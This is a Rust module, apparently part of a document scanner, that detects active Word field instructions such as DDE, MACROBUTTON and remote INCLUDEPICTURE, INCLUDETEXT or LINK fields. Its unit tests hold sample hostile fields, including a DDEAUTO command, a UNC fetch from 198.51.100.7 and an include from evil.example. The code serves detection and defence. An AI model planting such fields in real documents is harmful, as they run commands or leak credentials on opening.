//! Field instructions Word runs or follows when a document opens, as RTF
//! and WordprocessingML both hold them.

use crate::vocab::FindingKind;

/// What an active field does: the finding it makes, and why in a few words.
pub(crate) type Activity = (FindingKind, &'static str);

/// Why a field instruction is active, or `None` for an inert one (PAGE,
/// DATE, a hyperlink): DDE runs a command; MACROBUTTON runs a macro or a
/// built-in command when double-clicked; INCLUDEPICTURE, INCLUDETEXT and
/// LINK to a remote or UNC target fetch it (and leak credentials) on
/// opening.
pub(crate) fn active_field(instr: &str) -> Option<Activity> {
    let upper = instr.trim_start().to_ascii_uppercase();
    let word = upper.split_whitespace().next().unwrap_or_default();
    if word.starts_with("DDE") {
        return Some((FindingKind::Dde, "DDE"));
    }
    if word == "MACROBUTTON" {
        return Some((
            FindingKind::Macro,
            "running a macro or Word command on a double-click",
        ));
    }
    match word {
        "INCLUDEPICTURE" | "INCLUDETEXT" | "LINK" => {
            let remote = ["HTTP:", "HTTPS:", "\\\\", "FILE:", "//"]
                .iter()
                .any(|p| upper.contains(p));
            remote.then_some((FindingKind::ExternalReference, "fetching a remote file"))
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn active_and_inert_fields() {
        assert_eq!(
            active_field(" DDEAUTO c:\\\\x").map(|a| a.0),
            Some(FindingKind::Dde)
        );
        assert_eq!(
            active_field("DDE cmd x").map(|a| a.0),
            Some(FindingKind::Dde)
        );
        assert_eq!(
            active_field("INCLUDEPICTURE \"\\\\\\\\198.51.100.7\\\\s\\\\a.png\" \\d").map(|a| a.0),
            Some(FindingKind::ExternalReference)
        );
        assert_eq!(
            active_field("includetext \"https://evil.example/x.docx\"").map(|a| a.0),
            Some(FindingKind::ExternalReference)
        );
        assert_eq!(
            active_field("MACROBUTTON Abbrechen feldname").map(|a| a.0),
            Some(FindingKind::Macro)
        );
        assert!(active_field(" PAGE ").is_none());
        assert!(active_field("INCLUDEPICTURE \"media/a.png\"").is_none());
        assert!(active_field("HYPERLINK \"https://example.jp\"").is_none());
    }
}
